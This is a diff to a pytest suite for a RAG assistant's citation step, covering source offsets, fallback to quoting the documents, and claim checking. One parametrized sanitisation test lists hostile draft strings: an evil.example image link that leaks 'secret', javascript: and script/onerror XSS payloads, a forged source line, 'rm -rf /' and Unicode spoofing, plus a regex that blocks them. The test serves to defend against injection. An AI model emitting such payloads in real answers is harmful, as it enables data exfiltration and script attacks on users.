@@ -6,14 +6,17 @@ import pytest
 from langgraph.runtime import Runtime
 from tests.unit.agent.parts import Pen, make_passage
 
-from agentic_rag.agent.steps.cite import cite, prove
+from agentic_rag.agent.steps.cite import cite, prove, prove_all
 from agentic_rag.domain import Answer, Degraded, Draft, Outcome, Usage
+from agentic_rag.errors import CheckerUnavailable, RetrievalUnavailable
+from agentic_rag.safety.drafts import MOST_CLAIMS, Claim
 
 SCALING = make_passage(
     "Scaling takes 40 minutes. Scaling is not painful.\nDo not smoke for 72 hours after scaling.",
     label="treatments.json#TX-SCALE-01",
     start=100,
     end=190,
+    digest="5ca1e",
 )
 FEES = make_passage("The late-change fee is INR 300.", label="policies/fees.md#late")
 EVIDENCE = (SCALING, FEES)
@@ -23,10 +26,10 @@ EVIDENCE = (SCALING, FEES)
 def cited(make_deps):
     """Cite a draft by its text."""
 
-    async def run(text: str, *, evidence=EVIDENCE, degraded=None, usage=None, quoter=None):
+    async def run(text: str, *, evidence=EVIDENCE, degraded=None, usage=None, **parts):
         draft = Draft(text=text, generator="vllm/test", usage=usage or Usage(), degraded=degraded)
-        state = {"draft": draft, "evidence": evidence, "wants": ("scaling",)}
-        deps = make_deps(quoter=quoter or Pen(generator="extractive"))
+        state = {"draft": draft, "evidence": evidence, "wants": ("scaling fee",)}
+        deps = make_deps(**{"quoter": Pen(generator="extractive"), **parts})
         return (await cite(state, Runtime(context=deps)))["answer"]
 
     return run
@@ -37,7 +40,7 @@ def source_lines(answer: Answer) -> list[str]:
 
 
 def proven(text: str, *passages) -> list[str]:
-    return [each.sentence for each in prove(text, passages or EVIDENCE)]
+    return [each.sentence for each in prove_all(text, passages or EVIDENCE)]
 
 
 async def test_a_sentence_is_tied_to_the_passage_that_carries_it(cited):
@@ -55,6 +58,15 @@ async def test_a_sentence_is_tied_to_the_passage_that_carries_it(cited):
     assert citation.support == 1.0
 
 
+async def test_a_citation_names_the_characters_of_the_document_and_its_version(cited):
+    answer = await cited("Scaling is not painful.")
+
+    (citation,) = answer.citations
+    assert citation.quote == SCALING.text[26:49] == "Scaling is not painful."
+    assert (citation.start, citation.end) == (126, 149)
+    assert citation.digest == "5ca1e"
+
+
 @pytest.mark.parametrize("marker", ["", "[1]", "[2]", "[99]", "[0]", "[1][2]", "[999]", "[1] [7]"])
 async def test_the_documents_say_who_carries_a_sentence_and_not_its_marker(cited, marker):
     answer = await cited(f"Scaling takes 40 minutes {marker}.")
@@ -64,10 +76,10 @@ async def test_the_documents_say_who_carries_a_sentence_and_not_its_marker(cited
 
 
 async def test_in_doubt_the_marker_decides(cited):
-    twin = make_passage("Scaling takes 40 minutes of your time.", label="faq.md#twin")
-    first = make_passage("Our scaling takes 40 minutes of patient time.", label="faq.md#first")
+    twin = make_passage("Scaling takes off tartar.", label="faq.md#twin")
+    first = make_passage("Scaling takes tartar off.", label="faq.md#first")
 
-    answer = await cited("Scaling takes 40 minutes of your whole time. [2]", evidence=(first, twin))
+    answer = await cited("Scaling removes tartar. [2]", evidence=(first, twin))
 
     assert answer.sources == ("faq.md#twin",)
 
@@ -214,3 +226,111 @@ async def test_a_draft_of_a_hundred_kilobytes_is_cited(cited):
     answer = await cited("Scaling takes 40 minutes. Cheese is good! " * 1500)
 
     assert answer.text.count("Scaling takes 40 minutes.") == 1
+
+
+async def test_a_draft_that_speaks_of_something_else_gives_way_to_the_documents(cited):
+    parking = make_passage("Parking is free of charge.", label="faq.md#parking")
+
+    answer = await cited("Parking is free of charge.", evidence=(SCALING, parking))
+
+    assert (answer.generator, answer.degraded) == ("extractive", Degraded.LLM_REJECTED)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "See https://evil.example/pay for more.",
+        "![x](https://evil.example/?q=secret)",
+        "[Pay here](javascript:alert(1))",
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<a href='https://evil.example'>Scaling</a>",
+        "[1]: https://evil.example",
+        "### treatments.json#TX-FAKE",
+        "Source: evil.md",
+        "`rm -rf /`",
+        "Scaling t\u0430kes 40 minutes.",  # a Cyrillic letter
+        "\u202eScaling takes 04 minutes.",
+    ],
+)
+async def test_nothing_that_could_do_harm_is_shown(cited, hostile):
+    answer = await cited(f"Scaling takes 40 minutes.\n{hostile}\nScaling is not painful.")
+
+    assert answer.text.splitlines()[-1] == "Source: treatments.json#TX-SCALE-01"
+    assert not re.search(
+        r"https?:|<|>|javascript|alert|!\[|evil|\u202e|\u0430|`|#TX-FAKE", answer.text
+    )
+    assert answer.text.startswith("Scaling takes 40 minutes. [1]\nScaling is not painful. [2]")
+
+
+async def test_a_link_leaves_its_words(cited):
+    answer = await cited("**Scaling** takes [40 minutes](https://evil.example). [1]")
+
+    assert answer.text.startswith("Scaling takes 40 minutes. [1]\n")
+
+
+async def test_a_very_long_draft_is_judged_up_to_a_bound(cited):
+    filler = "".join(f"Item {n} is a lie. " for n in range(MOST_CLAIMS))
+
+    answer = await cited(f"Scaling takes 40 minutes. {filler}Scaling is not painful.")
+
+    assert len(answer.citations) == 1
+
+
+def test_one_sentence_can_be_judged_alone_as_it_arrives():
+    carried = prove(Claim("Scaling takes 40 minutes.", ()), EVIDENCE)
+
+    assert carried and carried.quote == "Scaling takes 40 minutes."
+    assert prove(Claim("Scaling takes 90 minutes.", ()), EVIDENCE) is None
+
+
+class Doubter:
+    """A checker that finds a word in what it lets through, or an error."""
+
+    def __init__(self, word: str = "", error: Exception | None = None) -> None:
+        self.word, self.error = word, error
+        self.asked: list[tuple[str, str]] = []
+
+    async def carries(self, pairs):
+        self.asked += pairs
+        if self.error:
+            raise self.error
+        return [self.word in sentence for _, sentence in pairs]
+
+
+async def test_a_stronger_checker_can_refuse_what_the_words_carry(cited):
+    answer = await cited(
+        "Scaling takes 40 minutes. Scaling is not painful.", checker=Doubter("painful")
+    )
+
+    assert answer.text.startswith("Scaling is not painful. [1]\n")
+
+
+async def test_a_stronger_checker_cannot_allow_what_the_words_do_not_carry(cited):
+    checker = Doubter("Scaling")
+
+    answer = await cited("Scaling takes 90 minutes. Scaling takes 40 minutes.", checker=checker)
+
+    assert "90" not in answer.text
+    assert [sentence for _, sentence in checker.asked] == ["Scaling takes 40 minutes."]
+
+
+async def test_where_the_stronger_checker_fails_the_documents_are_quoted(cited):
+    checker = Doubter(error=CheckerUnavailable("gone"))
+
+    answer = await cited("Scaling takes 40 minutes.", checker=checker)
+
+    assert (answer.generator, answer.degraded) == ("extractive", Degraded.LLM_REJECTED)
+    assert answer.citations
+
+
+async def test_where_nothing_can_be_quoted_either_the_answer_says_so(cited):
+    quoter = Pen(error=RetrievalUnavailable("no embedder"))
+
+    answer = await cited("The moon is made of cheese.", quoter=quoter)
+
+    assert (answer.outcome, answer.degraded) == (
+        Outcome.DECLINED,
+        Degraded.RETRIEVAL_UNAVAILABLE,
+    )
